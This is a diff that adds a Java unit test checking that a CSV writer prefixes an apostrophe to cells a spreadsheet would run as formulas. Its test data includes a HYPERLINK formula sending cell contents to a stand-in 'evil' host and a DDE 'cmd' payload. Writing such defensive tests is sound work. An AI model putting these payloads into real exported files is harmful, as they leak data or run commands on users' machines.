@@ -49,6 +49,24 @@ class CsvBodyWriterTest {
     }
 
     @Test
+    @DisplayName("text a spreadsheet would run as a formula (=, +, -, @, tab first) gets an apostrophe; numbers and plain text do not")
+    void formulasAreText() throws IOException {
+        String text = csv(CsvTable.of(Row.class, List.of(
+                new Row("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "@SUM(1)", new BigDecimal("-5"), null, -7L),
+                new Row("+x", "-1.5", null, null, null),
+                new Row("\tTAB", "- dash then text", null, null, null),
+                new Row("PVL", "a = b", null, null, null))));
+        assertThat(text).isEqualTo("code,name,rate,at,missing\r\n"
+                + "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",'@SUM(1),-5,,-7\r\n"
+                + "'+x,-1.5,,,\r\n"
+                + "'\tTAB,'- dash then text,,,\r\n"
+                + "PVL,a = b,,,\r\n");
+        assertThat(CsvBodyWriter.safe("=cmd|'/c calc'!A1")).isEqualTo("'=cmd|'/c calc'!A1");
+        assertThat(CsvBodyWriter.safe("+77012345678")).as("a phone number in E.164 is a number").isEqualTo("+77012345678");
+        assertThat(CsvBodyWriter.safe(null)).isNull();
+    }
+
+    @Test
     @DisplayName("an empty table still names its columns; unwrapped records add their columns in place")
     void headerAndUnwrapped() throws IOException {
         assertThat(csv(CsvTable.of(Row.class, List.of()))).isEqualTo("code,name,rate,at,missing\r\n");
